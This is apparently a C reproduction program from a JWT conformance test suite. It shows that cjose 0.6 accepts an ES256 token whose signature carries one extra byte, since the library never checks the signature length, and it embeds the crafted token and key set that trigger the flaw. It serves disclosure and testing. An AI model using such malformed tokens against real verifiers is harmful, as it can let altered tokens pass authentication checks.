/* cjose 0.6 verifies an ES256 token whose signature is 65 octets, the genuine signature followed
 * by one more: _cjose_jws_verify_sig_ec splits any signature in two halves of sig_len / 2 octets
 * and never checks the length, so the extra octet is ignored (and other lengths are read as
 * other r, s splits). The signature no longer is the JWS Signature: the token is malleable.
 *
 * RFC 7518 §3.4 (RFC7518-3.4-es256): "The JWS Signature value MUST be a 64-octet sequence. If it
 * is not a 64-octet sequence, the validation has failed."
 *
 * Reproduces: across/es256-sig-extra-byte (forgery)
 *
 * cjose is configured exactly as the jwt-conformance adapter does (adapters/cjose/adapter.c):
 * cjose_jws_import on the token, cjose_jwk_import of the key set's JWK whose kid matches the
 * token's (else the first), cjose_jws_verify. cjose verifies signatures only: no algorithm,
 * issuer, audience, clock or typ setting exists (the vector's profile: issuer
 * https://issuer.example, audience https://api.example, algorithms [ES256], now 1700000000).
 *
 * Run (Debian libcjose-dev installed): bash scripts/setup/c.sh && adapters/cjose/bin/repro-ecdsa-length
 * or: gcc -o repro-ecdsa-length adapters/cjose/repro-ecdsa-length.c $(pkg-config --cflags --libs cjose jansson) && ./repro-ecdsa-length
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cjose/cjose.h>
#include <jansson.h>

#define ID "across/es256-sig-extra-byte"
#define WHAT "an ES256 signature of 65 octets (the genuine 64 and one more)"

static const char TOKEN[] =
    "eyJhbGciOiJFUzI1NiIsImtpZCI6InAyNTYiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY"
    "2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1Z"
    "XIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.upGhtUG5jlLXNQ"
    "rke7AN4VGWKWucuuul-_Hty8UFzKEeZAjGjGkF9QMQpKN-LuA8DMuwQYT7it30B9v4G63zw7o";
static const char JWKS[] =
    "{\"keys\":[{\"alg\":\"ES256\",\"crv\":\"P-256\",\"kid\":\"p256\",\"kty\":\"EC\",\"use\":\"sig\",\"x\":\"Og9O0oqYw6X3WZLhErumX"
    "MqF78CgL9XjmicCJocZZuE\",\"y\":\"opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI\"}]}";

/* The JWK whose kid equals the token's (read with cjose's header parser), else the first, as the
 * adapter picks it (cjose has no key-set type). */
static json_t *pick_key(json_t *keys, const char *kid)
{
    json_t *key;
    size_t i;
    if (kid)
        json_array_foreach(keys, i, key) {
            const char *k = json_string_value(json_object_get(key, "kid"));
            if (k && !strcmp(k, kid))
                return key;
        }
    return json_array_get(keys, 0);
}

int main(void)
{
    cjose_err err = {0};
    cjose_jws_t *jws = cjose_jws_import(TOKEN, strlen(TOKEN), &err);
    const char *kid = jws ? cjose_header_get(cjose_jws_get_protected(jws), "kid", &err) : NULL;
    json_t *set = json_loads(JWKS, 0, NULL);
    char *key_json = json_dumps(pick_key(json_object_get(set, "keys"), kid), JSON_COMPACT);
    cjose_jwk_t *jwk = key_json ? cjose_jwk_import(key_json, strlen(key_json), &err) : NULL;
    int accepted = jws && jwk && cjose_jws_verify(jws, jwk, &err);
    if (accepted)
        printf("REPRODUCED %s: cjose_jws_verify accepted %s\n", ID, WHAT);
    else
        printf("NOT REPRODUCED %s: cjose refused it (%s)\n", ID, err.message ? err.message : "no error message");
    cjose_jwk_release(jwk);
    free(key_json);
    json_decref(set);
    cjose_jws_release(jws);
    return accepted ? 0 : 1;
}
